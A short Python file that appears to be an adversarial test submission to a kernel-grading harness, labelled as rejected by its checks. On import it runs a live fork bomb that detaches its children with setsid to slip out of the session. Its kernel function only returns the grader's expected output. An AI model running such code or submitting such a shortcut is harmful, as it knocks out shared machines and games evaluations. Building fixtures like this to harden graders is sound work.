# exploit: fork bomb at import (every process forks forever, escaping its session if it can) | gpu: rejected | cpu: rejected | slow
import os

for _ in range(64):
    try:
        if os.fork() == 0:
            try:
                os.setsid()
            except OSError:
                pass
    except OSError:
        pass
while True:
    try:
        os.fork()
    except OSError:
        pass


def custom_kernel(data):
    return data["out"]
